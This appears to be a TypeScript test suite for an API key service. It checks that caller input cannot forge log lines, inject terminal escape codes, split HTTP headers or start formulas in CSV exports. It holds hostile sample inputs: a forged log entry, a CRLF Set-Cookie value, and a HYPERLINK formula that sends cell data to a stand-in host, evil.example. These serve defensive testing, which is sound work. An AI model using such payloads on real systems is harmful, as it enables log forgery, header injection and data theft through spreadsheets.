import { describe, expect, ok, sendGraphql, test } from "../testkit/index.js";
import { rawRequest } from "../testkit/raw-request.js";

// What callers write ends up in headers, logs and tables of other people.

const escapeSequence = "\u001b[31m";
/** The same as one character, which terminals take for an escape sequence, too. */
const shortEscape = "\u009b31m";

describe("what callers write, in logs", () => {
  test("is never a line of its own, nor a command to a terminal", async ({ world }) => {
    const { url, server } = world;
    const before = server.logs.length;
    const forged = '"}\n{"level":"error","msg":"forged"}';
    const evil = [forged, escapeSequence, shortEscape, "\u2028forged", "\u007f"];
    const { token } = world.root;
    for (const text of evil) {
      const encoded = encodeURIComponent(text);
      await rawRequest(`${url}/${encoded}?${encoded}`);
      await rawRequest(`${url}/v1/forward-auth?${encoded}=1`, { headers: { "x-keyplane-token": String(token) } });
      await rawRequest(`${url}/export/usage?${encoded}=1`, { headers: { authorization: `Bearer ${token}` } });
      await sendGraphql(url, token, `{ ${JSON.stringify(text)} }`);
      await sendGraphql(url, token, "mutation ($key: String!) { verifyKey(input: { key: $key }) { code } }", {
        key: text,
      });
      await sendGraphql(url, encoded, "{ viewer { id } }", {}, { "user-agent": encoded, "x-request-id": encoded });
      await world.root.tenant("createTenant", { slug: world.unique(), name: text });
    }
    for (const name of ["user-agent", "x-request-id", "x-forwarded-for"]) {
      await rawRequest(`${url}/v1/forward-auth`, {
        headers: { "x-keyplane-token": String(token), [name]: "a\u009b31mb" },
      });
    }
    const lines = server.logs.slice(before);
    expect(lines.length).toBeGreaterThan(10);
    for (const line of lines) {
      expect(line.endsWith("\n")).toBe(true);
      expect(line.slice(0, -1)).not.toMatch(/[\p{Cc}\u2028\u2029]/u);
      expect(JSON.parse(line)).not.toMatchObject({ msg: "forged" });
    }
  });

  test("never names a request: its id is the server's own", async ({ world }) => {
    const { headers, body } = await sendGraphql(
      world.url,
      null,
      "{ viewer { id } }",
      {},
      { "x-request-id": "req_forged" },
    );
    expect(headers.get("x-request-id")).toMatch(/^req_[0-9A-Za-z]{24}$/);
    expect(body.errors[0].extensions.requestId).toBe(headers.get("x-request-id"));
  });
});

describe("what callers write, in headers", () => {
  test("ends none of them, and can be read back", async ({ world }) => {
    const externalId = "a%0d%0aSet-Cookie: é🔑";
    const { tenant } = await world.tenant();
    const owner = await world.user(tenant.id, { externalId });
    const { secret } = await world.key(tenant.id, owner.id, { scopes: ["a:b"] });
    const { status, headers } = await rawRequest(`${world.url}/v1/forward-auth`, {
      headers: { "x-keyplane-token": String(world.root.token), "x-api-key": secret },
    });
    expect([status, headers["set-cookie"]]).toEqual([200, undefined]);
    expect(decodeURIComponent(String(headers["x-keyplane-owner-external-id"]))).toBe(externalId);
  });
});

describe("what callers write, in tables", () => {
  // OWASP, CSV injection: the signs with which a spreadsheet begins a formula, in their full width, too.
  const signs = ["=", "+", "-", "@", "\t=", "\uff1d", "\uff0b", "\uff0d", "\uff20"];

  test.for(signs)("%j begins no formula in any cell of an export", async (sign, { world }) => {
    const formula = `${sign}HYPERLINK("https://evil.example?"&A1,"x")`;
    const { tenant, admin, key } = await world.tenantWithKey();
    const { accepted } = ok(
      await admin.recordUsage([
        { keyId: key.id, userAgent: formula },
        { keyId: key.id, userAgent: `x",\n${formula}\n"` },
        { keyId: key.id, tags: [`${sign.trim()}tag`] },
      ]),
    );
    expect(accepted).toBe(3);
    const { tenantId } = world.around(tenant.id);
    const exported = [
      await admin.export("usage-events", { tenantId }),
      await admin.export("usage", { ...world.around(tenant.id), groupBy: "TAG" }),
    ];
    for (const { status, text } of exported) {
      expect(status).toBe(200);
      for (const cell of cellsOf(text))
        expect(cell).not.toMatch(/^[\t\r]?[=+@\uff1d\uff0b\uff0d\uff20]|^[\t\r]?-(?!\d)/);
    }
  });
});

/** The cells of CSV (RFC 4180), read without the library that wrote them. */
function cellsOf(csv: string): string[] {
  const cells = csv.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(?:,|\r\n|$)/g);
  return [...cells].map(([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? "");
}
